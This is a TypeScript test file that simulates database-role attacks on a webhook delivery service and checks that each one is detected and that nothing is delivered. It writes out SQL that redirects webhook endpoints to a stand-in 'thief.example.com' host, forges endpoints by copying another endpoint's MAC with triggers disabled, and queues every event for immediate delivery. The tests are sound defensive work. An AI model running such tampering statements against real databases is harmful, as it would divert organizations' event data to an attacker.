import { silentLog } from '../support/clock.ts'
import { openDeliverer } from '../../src/webhooks/deliver.ts'
import { type Attack, noticed, withoutTriggers } from './attack.ts'
import type { Role, Scene } from './scene.ts'

const THIEF = 'https://thief.example.com/'
/** Deliveries of the organization's events, due at once. */
const DUE = `
  insert into deliveries (org_id, event_id, endpoint_id, sequence, state, next_at)
  select org_id, id, org_id, sequence, 'pending', timestamptz '2000-01-01' from events
      on conflict (org_id, event_id, endpoint_id) do update set state = 'pending',
         next_at = timestamptz '2000-01-01', attempts_max = 6`

export const ON_WEBHOOKS: readonly Attack[] = [
  ...(['sluice_api', 'sluice_engine'] as const).map((role) => redirecting(role)),
  {
    role: 'sluice_engine',
    name: 'redirects a delivery to his own URL',
    sql: () => `${DUE}; update deliveries set url = '${THIEF}', url_mac = '\\x00'`,
    afterwards: expectNothingSent,
    expectation: noticed('webhook_endpoint.tampered'),
  },
  {
    role: 'sluice_owner',
    name: 'adds a webhook endpoint of his own with the MAC of another',
    sql: () =>
      withoutTriggers(
        ['webhook_endpoints', 'deliveries'],
        `insert into webhook_endpoints (org_id, id, url, secret_id, version, mac, created_at,
                updated_at)
         select org_id, gen_random_uuid(), '${THIEF}', secret_id, version, mac, created_at,
                updated_at
           from webhook_endpoints;
         insert into deliveries (org_id, event_id, endpoint_id, sequence, state, next_at)
         select e.org_id, e.id, w.id, e.sequence, 'pending', timestamptz '2000-01-01'
           from events e join webhook_endpoints w on w.org_id = e.org_id and w.id <> e.org_id`,
      ),
    afterwards: expectNothingSent,
    expectation: noticed('webhook_endpoint.tampered'),
  },
]

function redirecting(role: Role): Attack {
  return {
    role,
    name: 'redirects the webhooks to his own URL',
    sql: () => `update webhook_endpoints set url = '${THIEF}'; ${DUE}`,
    afterwards: expectNothingSent,
    expectation: noticed('webhook_endpoint.tampered'),
  }
}

/** Delivers what is due; throws if a request leaves for the thief. */
async function expectNothingSent(scene: Scene): Promise<void> {
  const { harness } = scene.desk.door
  const sent: string[] = []
  const deliverer = openDeliverer({
    database: harness.database,
    serviceKey: scene.serviceKey,
    clock: harness.clock,
    log: silentLog(),
    rules: { allowHttp: false, allowPrivate: false, devOrigins: [] },
    resolve: async () => [],
    openPoster: () => ({
      send: async ({ url }) => {
        sent.push(url.href)
        return { status: 200, headers: {}, body: '', error: '' }
      },
      close: async () => {},
    }),
  })
  await deliverer.tick()
  await deliverer.close()
  if (sent.length > 0) throw new Error(`sent to ${sent.join(', ')}`)
}
